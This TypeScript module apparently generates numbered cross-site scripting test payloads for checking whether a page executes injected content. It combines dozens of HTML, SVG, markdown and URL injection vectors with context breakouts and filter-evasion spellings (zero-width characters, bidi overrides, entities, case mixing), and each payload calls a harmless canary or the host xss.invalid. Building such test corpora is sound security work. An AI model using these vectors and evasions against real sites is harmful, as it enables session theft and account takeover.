/**
 * Markup and links that would run script if a page took them for its own: what does it, what it stands in, and how it is
 * spelt, multiplied. Each calls `top.ran` with its number, and carries that number as a word by which it is known on a screen.
 */

export interface Payload {
  readonly id: number;
  readonly text: string;
}

/** What runs. `js` holds no quote, no blank and no angle bracket, so that it fits anywhere. */
type Vector = (js: string, id: number) => string;

/** Nothing answers there: a request is as good as a run. */
export const FOREIGN_HOST = "xss.invalid";
const away = (id: number) => `https://${FOREIGN_HOST}/${id}`;
const encoded = (js: string) => Buffer.from(`<script>${js}</script>`).toString("base64");

const ELEMENTS: readonly Vector[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script src=data:text/javascript,${js}></script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src="x" onerror="${js}">`,
  (js) => `<img/src=x/onerror=${js}//>`,
  (js) => `<image src=x onerror=${js}>`,
  (_js, id) => `<img src=${away(id)}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set attributeName=x onbegin=${js}>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${js}>`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${js}>">`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<b tabindex=1 autofocus onfocus=${js}>x</b>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<style>@keyframes k{}</style><b style=animation-name:k;animation-duration:1s onanimationstart=${js}>x</b>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<object data="data:text/html;base64,${encoded(js)}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (_js, id) => `<base href="${away(id)}/">`,
  (_js, id) => `<link rel=stylesheet href="${away(id)}">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `<button formaction="javascript:${js}">x</button>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href=" &#1;javascript:${js}">x</a>`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  (_js, id) => `<b style="background:url(${away(id)})">x</b>`,
  (_js, id) => `<style>@import "${away(id)}";</style>`,
];

const TEXTS: readonly Vector[] = [
  (js) => `javascript:${js}`,
  (js) => `javascript://shop.example/%0a${js}`,
  (js) => `data:text/html;base64,${encoded(js)}`,
  (js) => `vbscript:${js}`,
  (js) => `[x](javascript:${js})`,
  (js) => `[x](<javascript:${js}>)`,
  (js) => `![x](javascript:${js})`,
  (_js, id) => `![x](${away(id)})`,
  (js) => `![x](x"onerror="${js})`,
  (js) => `[x](x "onmouseover=${js}")`,
  (js) => `<javascript:${js}>`,
  (js) => `[x][y]\n\n[y]: javascript:${js}`,
  (js) => `\`\`\`html\n<script>${js}</script>\n\`\`\``,
  (js) => `https://shop.example/"onmouseover=${js}//`,
  (js) => `https://shop.example/<img src=x onerror=${js}>`,
  (js) => `constructor.constructor("${js}")()`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `';${js};//`,
  (js) => `";${js};//`,
  (js) => `\`-${js}-\``,
  (js) => `\u2028${js}\u2029`,
];

/** What the words may stand in, and how one gets out of it. */
const BREAKOUTS: readonly string[] = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "</noscript>",
  "</option></select>",
  "-->",
  "]]>",
  "</svg>",
  '\\">',
];

type Spelling = (text: string) => string;

const entity = (letter: string) => `&#x${letter.charCodeAt(0).toString(16)};`;

const SPELLINGS: readonly Spelling[] = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/gu, (_all, slash: string, name: string) => `<${slash}${mixCase(name)}`),
  (text) =>
    text
      .replace(/javascript:/gu, "jAvAsCrIpT:")
      .replace(/on([a-z]+)=/gu, (_all, name: string) => `ON${mixCase(name)}=`),
  (text) => text.replace(/javascript:/gu, "java\tscript:").replace(/ on/gu, "\non"),
  (text) => text.replace(/javascript:/gu, "java&Tab;script&colon;").replaceAll("top.", `${entity("t")}op.`),
  (text) => text.replaceAll("top.", "\\u0074op."),
  // Comes alive where what cannot be seen is taken out behind the look.
  (text) => text.replace(/script/gu, "scr\u200Bipt").replace(/onerror/gu, "on\u200Berror"),
  (text) => text.replaceAll("<", "<\u2060"),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (text) => `\u202E${text}\u202C`,
  (text) => `\u2067مرحبا ${text} שלום\u2069`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\u0001<"),
];

function mixCase(name: string): string {
  return name
    .split("")
    .map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter))
    .join("");
}

/** As many as are wanted, equal for equal counts; a small count holds something of everything. */
export function writePayloads(count: number): readonly Payload[] {
  const combinations = [...ELEMENTS, ...TEXTS].flatMap((vector) =>
    BREAKOUTS.flatMap((breakout) => SPELLINGS.map((spelling) => ({ vector, breakout, spelling }))),
  );
  const known = new Set<string>();
  const payloads: Payload[] = [];
  // A stride that has no factor in common with their number visits each of them once, far apart.
  const stride = coprimeTo(combinations.length);
  for (let step = 0; step < combinations.length && payloads.length < count; step += 1) {
    const { vector, breakout, spelling } = combinations[
      (step * stride) % combinations.length
    ] as (typeof combinations)[0];
    // A spelling that changes nothing of this vector is the plain one again.
    const shape = breakout + spelling(vector("top.ran(0)", 0));
    if (known.has(shape)) continue;
    known.add(shape);
    const id = payloads.length + 1;
    payloads.push({ id, text: `q${id}q ${breakout}${spelling(vector(`top.ran(${id})`, id))}` });
  }
  if (payloads.length < count) throw new Error(`There are ${payloads.length} payloads.`);
  return payloads;
}

function coprimeTo(length: number): number {
  const divides = (a: number, b: number): number => (b === 0 ? a : divides(b, a % b));
  let stride = Math.floor(length * 0.381966);
  while (divides(length, stride) !== 1) stride += 1;
  return stride;
}

/** As many as fit into each text. */
export function packPayloads(payloads: readonly Payload[], maxLength: number): readonly string[] {
  const texts: string[] = [];
  let text = "";
  for (const { text: next } of payloads) {
    if (text.length + next.length + 2 > maxLength) {
      if (text !== "") texts.push(text);
      text = "";
    }
    text += text === "" ? next : `\n\n${next}`;
  }
  return text === "" ? texts : [...texts, text];
}
